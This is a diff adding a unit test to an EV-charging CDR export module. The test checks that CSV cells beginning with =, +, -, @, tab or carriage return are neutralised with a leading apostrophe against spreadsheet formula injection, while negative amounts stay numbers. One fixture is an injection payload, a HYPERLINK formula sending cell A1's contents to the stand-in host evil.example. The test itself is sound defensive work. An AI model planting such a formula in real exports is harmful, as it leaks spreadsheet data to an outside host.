@@ -5,6 +5,7 @@ import { sampleCdr, sampleIssued, sampleTariff } from '../../domain/cdr/fixtures
 import type { OcpiCdr } from '../../domain/cdr/ocpi.js';
 import { cdrSchema } from '../../ocpi/schemas/index.js';
 import { cdrCsvColumns, cdrsAsCsv, cdrsAsOcpiJson, tariffVersionParts, type CdrExportRow } from './cdr-export.js';
+import { theirSummaries } from './settlement-statement.js';
 
 const row = (cdr: OcpiCdr, tariffVersionId: string | null = 'T-STD@3'): CdrExportRow => ({
   cdr_id: cdr.id,
@@ -62,6 +63,31 @@ describe('cdr export --format csv', () => {
     const text = cdrsAsCsv([row(cdr)]);
     expect(text.split('\n')[1]).toContain('"A,""B"""');
     expect(csvRecords(text)[0]).toMatchObject({ token_uid: 'A,"B"', contract_id: 'line\nbreak', location_id: 'LOC\r1' });
+  });
+
+  it('defuses spreadsheet formulas in cells partners and stations write (OWASP CSV injection); numbers stay numbers', () => {
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
+    const cdr = sampleCdr({
+      cdr_token: { ...sampleCdr().cdr_token, uid: formula, contract_id: '@SUM(1+1)' },
+      cdr_location: { ...sampleCdr().cdr_location, id: '+LOC', evse_uid: '-2+3', evse_id: '\tNL*CPO*E1', connector_id: '\r1' },
+    });
+    const [record] = csvRecords(cdrsAsCsv([row(cdr)]));
+    expect(record).toMatchObject({
+      token_uid: `'${formula}`,
+      contract_id: "'@SUM(1+1)",
+      location_id: "'+LOC",
+      evse_uid: "'-2+3",
+      evse_id: "'\tNL*CPO*E1",
+      connector_id: "'\r1",
+    });
+    // Every cell of the record: none starts a formula.
+    expect(Object.values(record!).filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell))).toEqual([]);
+    // A statement built from this export reads the ids back as issued (settlement reconcile --their).
+    const oddIds = sampleCdr({ id: '=CDR-1', session_id: '@S-1' });
+    expect(theirSummaries(cdrsAsCsv([row(oddIds)]))[0]).toMatchObject({ cdrId: '=CDR-1', sessionId: '@S-1' });
+    // A credit CDR's negative amounts are numbers, not formulas: left as they are.
+    const credit = csvRecords(cdrsAsCsv([row(creditCdrFrom(sampleIssued(), 'CDR-1-C', '2025-03-05T09:00:00Z').cdr)]))[0]!;
+    expect(credit).toMatchObject({ total_cost_excl_vat: '-7.00', total_cost_incl_vat: '-8.47', vat_amount: '-1.47', energy_cost_excl_vat: '-6.00' });
   });
 
   it('splits VAT per rate when the cost parts carry different rates', () => {
